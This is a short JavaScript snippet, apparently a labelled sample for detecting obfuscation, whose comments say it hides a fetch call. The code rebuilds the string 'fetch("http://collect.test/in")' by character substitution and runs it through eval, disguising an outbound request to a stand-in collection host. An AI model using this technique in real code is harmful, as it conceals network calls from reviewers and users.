// hides: call fetch "http://collect.test/in"
// hides: code
(function () {
  var z = 'f@("h!!p://collec!.!es!/in")', t = { '@': 'etch', '!': 't' }, o = '';
  for (var i = 0; i < z.length; i++) o += z[i] in t ? t[z[i]] : z[i];
  eval(o);
})();
